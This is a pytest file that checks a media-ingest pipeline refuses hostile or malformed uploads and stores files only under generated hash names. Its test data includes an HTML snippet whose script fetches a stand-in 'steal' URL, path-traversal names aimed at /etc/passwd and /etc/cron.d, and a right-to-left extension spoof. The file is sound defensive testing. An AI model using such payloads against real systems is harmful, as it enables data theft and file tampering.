"""Bad input through the real ingest: each file is refused with a reason that names the problem, in bounded time,
and the store and the media folder are left exactly as they were. Files are stored under generated names only;
the name they came with is kept, escaped, as metadata. An upload's total size is limited on the server."""

from __future__ import annotations

import hashlib
import io
import os
import re
import struct
import tomllib
from fractions import Fraction
from pathlib import Path

import av
import numpy as np
import pytest
from PIL import Image

import media_audio as ma
import media_av as mav
import media_factory as mf
import media_pdf as mp
from browser import ROOT
from mmcore.config import Settings
from mmcore.files import MAX_NAME_CHARS, display_name
from mmcore.ingest import SourceFile, ingest
from mmcore.workspace import Workspace

MB = 2**20


# --- bad files ------------------------------------------------------------------------------------------


def animated_gif(frames: int, screen: tuple[int, int]) -> bytes:
    """`frames` 2 x 2 frames on a logical screen of `screen` pixels (patched into the header after saving)."""
    ims = [Image.new("P", (2, 2), i % 2) for i in range(frames)]
    out = io.BytesIO()
    ims[0].save(out, "GIF", save_all=True, append_images=ims[1:], duration=10, optimize=False)
    data = bytearray(out.getvalue())
    struct.pack_into("<HH", data, 6, *screen)
    return bytes(data)


def wav_claiming_4_gb() -> bytes:
    data = bytearray(ma.make_wav(1.0))
    data[4:8] = data[40:44] = struct.pack("<I", 0xFFFF_FFF0)
    return bytes(data)


def ten_hour_video(every_s: int, container: str = "mp4") -> bytes:
    """A 1 x 1 video, one frame every `every_s` seconds for 10 hours: small and quick to make, however long it is.

    As Matroska written without seeking back, its header declares no length: only decoding finds out."""
    muxer = {"mp4": "mp4", "mkv": "matroska"}[container]
    sink = io.BytesIO() if container == "mp4" else mav._Unseekable()
    with av.open(sink, mode="w", format=muxer) as out:
        stream = out.add_stream("ffv1", rate=Fraction(1, every_s))
        stream.width = stream.height = 1
        stream.pix_fmt = "yuv444p"
        for i in range(10 * 3600 // every_s + 1):
            frame = av.VideoFrame.from_ndarray(np.zeros((1, 1, 3), np.uint8), format="rgb24")
            frame.pts, frame.time_base = i, Fraction(every_s)
            out.mux(stream.encode(frame))
        out.mux(stream.encode())
    return sink.getvalue() if container == "mp4" else bytes(sink.buffer)


def corrupt_video() -> bytes:
    video = mav.make_video(seconds=2)
    return video[:64] + np.random.default_rng(0).bytes(len(video) - 64)


def binary_without_nul() -> bytes:
    return np.random.default_rng(1).bytes(50_000).replace(b"\x00", b"\x01")


HTML = b"<!doctype html><html><body><script>fetch('https://example.com/steal')</script></body></html>"

# name, bytes (made when the test runs), words the reason must contain
BAD_FILES = [
    ("nothing.png", lambda: b"", ["empty", "0 bytes"]),
    ("setup.png", mf.elf_bytes, ["not a readable image"]),
    ("logo.png", lambda: mf.SVG, ["not a readable image"]),
    ("logo.svg", lambda: mf.SVG, ["unsupported file type", ".svg"]),
    ("page.html", lambda: HTML, ["unsupported file type", ".html"]),
    ("cut.jpg", mf.truncated_jpeg, ["corrupt or truncated"]),
    ("bomb.png", lambda: mf.png_bomb(50_000, 50_000), ["decompression bomb"]),
    ("bomb.gif", lambda: animated_gif(500, (65_535, 65_535)), ["decompression bomb"]),
    ("blob.txt", binary_without_nul, ["binary data", "not UTF-8 text"]),
    ("nul.txt", lambda: b"text\x00with NUL bytes", ["binary data", "NUL"]),
    ("line.txt", lambda: b"a" * (100 * MB), ["100.0 MB", "50 MB limit for text", "MMCORE_MAX_TEXT_MB"]),
    ("locked.pdf", lambda: mp.make_pdf(["secret"], password="hunter2"), ["password-protected", "encrypted"]),
    ("broken.pdf", lambda: b"%PDF-1.4\n" + np.random.default_rng(2).bytes(2000), ["not a readable PDF"]),
    ("huge.pdf", lambda: mp.make_pdf([""] * 3000), ["3000 pages", "limit of 500", "MMCORE_MAX_PDF_PAGES"]),
    ("liar.wav", wav_claiming_4_gb, ["header claims 4,096 MB", "corrupt"]),
    ("corrupt.mp4", corrupt_video, ["not a readable video"]),
    ("ten-hours.mp4", lambda: ten_hour_video(60), ["601.0 min long", "limit of 240.0 min", "MMCORE_MAX_MEDIA_MINUTES"]),
    ("ten-hours.mkv", lambda: ten_hour_video(1, "mkv"), ["runs past the limit of 240.0 min", "declares no length"]),
]


@pytest.fixture(scope="module")
def seeded(tmp_path_factory, clip_dir, clap_dir, media):
    """A workspace with both spaces that already holds an image, a text and a sound."""
    data_dir = tmp_path_factory.mktemp("bad-input") / "data"
    ws = Workspace(Settings(data_dir=data_dir, models={"clip": str(clip_dir), "clap": str(clap_dir)}, batch_size=4))
    good = [SourceFile("img.jpg", path=media["img.jpg"]), SourceFile("long.txt", path=media["long.txt"]),
            SourceFile("tone.wav", data=ma.make_wav(2.0))]
    report = ingest(ws, good)
    assert report.ok and len(report.by_status("added")) == 3
    return ws


def snapshot(ws: Workspace) -> tuple[dict, list[str]]:
    """Every collection's item ids, and every file under the media folder."""
    items = {(c.name, c.space.space): sorted(ws.store.open(c.name, c.space.space).all(with_vectors=False).ids)
             for c in ws.store.list()}
    files = sorted(p.relative_to(ws.files.root).as_posix() for p in ws.files.root.rglob("*") if p.is_file())
    return items, files


@pytest.mark.parametrize("name,make,words", BAD_FILES, ids=[name for name, _, _ in BAD_FILES])
def test_bad_file_is_refused_by_name_and_changes_nothing(seeded, name, make, words):
    data = make()
    before = snapshot(seeded)
    assert sum(map(len, before[0].values())) > 3 and before[1]

    report = ingest(seeded, [SourceFile(name, data=data)])

    [result] = report.results
    assert result.status == "failed" and result.name == name
    for word in words:
        assert word in result.reason
    assert snapshot(seeded) == before


def test_many_frames_on_a_small_screen_are_one_image_of_the_first_frame(ws):
    report = ingest(ws, [SourceFile("frames.gif", data=animated_gif(20_000, (2, 2)))])
    assert report.ok and report.items_added == 1


@pytest.mark.parametrize("markup", [mf.SVG, HTML])
def test_markup_in_a_text_file_is_stored_as_plain_text(ws, markup):
    """An SVG or HTML file named .txt is text like any other: stored and shown as its characters, never rendered
    (pages show documents through `ui.snippet`, an st.text, which parses neither Markdown nor HTML)."""
    report = ingest(ws, [SourceFile("markup.txt", data=markup)])
    assert report.ok
    items = ws.collection().all(with_vectors=False)
    assert "".join(items.documents).startswith(markup.decode()[:20])
    assert {m["mime"] for m in items.metadatas} == {"text/plain"}
    [original] = {m["original"] for m in items.metadatas}
    assert original.endswith(".txt")


def test_text_limit_comes_from_the_settings(tmp_path, clip_dir):
    ws = Workspace(Settings(data_dir=tmp_path / "data", models={"clip": str(clip_dir)}, max_text_bytes=1024))
    report = ingest(ws, [SourceFile("small.txt", data=b"word " * 100), SourceFile("big.txt", data=b"word " * 300)])
    assert [r.status for r in report.results] == ["added", "failed"]
    assert "limit for text" in report.results[1].reason and "MMCORE_MAX_TEXT_MB" in report.results[1].reason


# --- file names -----------------------------------------------------------------------------------------

HASH_NAMED = re.compile(r"^(originals|thumbs)/([0-9a-f]{2})/\2[0-9a-f]{62}(\.[a-z0-9.-]+)?$")

NAMES = [
    "../../etc/passwd.png",
    "/etc/cron.d/evil.png",
    "C:\\Windows\\System32\\evil.png",
    "nul\x00byte.png",
    "x" * 300 + ".png",
    "report\u202egnp.exe.png",  # shows as "report" + "png.exe.gnp" reversed: an extension spoof
    "صورة العائلة.png",  # Arabic: right-to-left letters are a name like any other
    "CON.png",
    "NUL.png",
    "COM1.png",
    "lpt1.png",
    "line\nbreak\r.png",
]


def test_odd_names_are_kept_escaped_and_files_stored_under_generated_names(ws, tmp_path):
    sources = [SourceFile(name, data=mf.encode(Image.new("RGB", (24, 24), (i * 20, 255 - i * 20, 90)), "PNG"))
               for i, name in enumerate(NAMES)]
    report = ingest(ws, sources)
    assert report.ok and len(report.by_status("added")) == len(NAMES)
    assert [r.name for r in report.results] == [display_name(n) for n in NAMES]

    by_source = {m["source"]: m for m in ws.collection().all(with_vectors=False).metadatas}
    assert set(by_source) == {display_name(n) for n in NAMES}
    for meta in by_source.values():
        digest = meta["source_hash"]
        assert meta["original"] == f"originals/{digest[:2]}/{digest}.png"
        assert meta["thumbnail"] == f"thumbs/{digest[:2]}/{digest}.webp"
    stored = [p.relative_to(ws.files.root).as_posix() for p in ws.files.root.rglob("*") if p.is_file()]
    assert len(stored) == 2 * len(NAMES) and all(HASH_NAMED.match(p) for p in stored), stored
    everything = [p.name for p in tmp_path.rglob("*")]
    for word in ("passwd", "evil", "CON", "COM1", "byte", "صورة"):
        assert not any(word in name for name in everything), word
    assert not Path("/etc/cron.d/evil.png").exists()

    # What was kept: the names as given, hidden characters escaped, the long one shortened.
    assert "../../etc/passwd.png" in by_source and "CON.png" in by_source and "صورة العائلة.png" in by_source
    assert "nul\\x00byte.png" in by_source and "report\\u202egnp.exe.png" in by_source
    assert "line\\nbreak\\r.png" in by_source
    [long] = [s for s in by_source if s.startswith("xxx")]
    assert len(long) == MAX_NAME_CHARS and long.endswith("x.png") and "…" in long


def test_display_name_escapes_hidden_characters_and_caps_the_length():
    assert display_name("holiday.jpg") == "holiday.jpg"
    assert display_name("a\x00b\x1b[31m.txt") == "a\\x00b\\x1b[31m.txt"
    assert display_name("x\u202ey\u2066z\u200f.png") == "x\\u202ey\\u2066z\\u200f.png"
    assert display_name(os.fsdecode(b"caf\xe9.png")) == "caf\\udce9.png"  # an undecodable name on disk
    assert display_name("日本語 ファイル.png") == "日本語 ファイル.png"
    long = display_name("a" * 1000 + ".tar.gz.png")
    assert len(long) == MAX_NAME_CHARS and long.endswith(".tar.gz.png")
    assert display_name("b" * MAX_NAME_CHARS) == "b" * MAX_NAME_CHARS


# --- limits ---------------------------------------------------------------------------------------------


def noise_png(seed: int, side: int) -> bytes:
    """A PNG of random pixels: it doesn't compress, so its size is about 3 x side² bytes."""
    pixels = np.random.default_rng(seed).integers(0, 256, (side, side, 3), dtype=np.uint8)
    return mf.encode(Image.fromarray(pixels), "PNG")


def test_an_upload_over_its_total_limit_refuses_the_files_past_it(ws):
    big_a, big_b, small = noise_png(0, 450), noise_png(1, 450), noise_png(2, 16)
    assert 0.5 * MB < len(big_a) < MB and 0.5 * MB < len(big_b) < MB
    sources = [SourceFile("a.png", data=big_a), SourceFile("b.png", data=big_b), SourceFile("c.png", data=small)]

    report = ingest(ws, sources, max_total_bytes=1 * MB)

    assert [r.status for r in report.results] == ["added", "failed", "added"]  # c still fits in what is left
    reason = report.results[1].reason
    assert "this upload is over its 1 MB limit" in reason and "MMCORE_MAX_UPLOAD_MB" in reason
    assert {m["source"] for m in ws.collection().all(with_vectors=False).metadatas} == {"a.png", "c.png"}
    refused = hashlib.sha256(big_b).hexdigest()
    assert not any(refused in p.name for p in ws.files.root.rglob("*"))


def test_without_an_upload_limit_ingest_takes_everything(ws):
    report = ingest(ws, [SourceFile("a.png", data=noise_png(0, 450)), SourceFile("b.png", data=noise_png(1, 450))])
    assert report.ok and report.items_added == 2


def test_size_limits_are_configurable_with_defaults_for_24_gb_of_ram():
    defaults = Settings.from_env({})
    assert defaults.max_file_bytes == 512 * MB
    assert defaults.max_upload_bytes == 2048 * MB
    assert defaults.max_text_bytes == 50 * MB
    chosen = Settings.from_env({"MMCORE_MAX_FILE_MB": "64", "MMCORE_MAX_UPLOAD_MB": "256", "MMCORE_MAX_TEXT_MB": "2"})
    assert (chosen.max_file_bytes, chosen.max_upload_bytes, chosen.max_text_bytes) == (64 * MB, 256 * MB, 2 * MB)


def test_the_uploader_widget_limit_matches_the_per_file_limit():
    """Streamlit's own per-file limit (server.maxUploadSize, in MB) is the default MMCORE_MAX_FILE_MB: the widget
    refuses what ingest would refuse anyway, and ingest checks again whatever the widget let through."""
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["server"]["maxUploadSize"] * MB == Settings().max_file_bytes
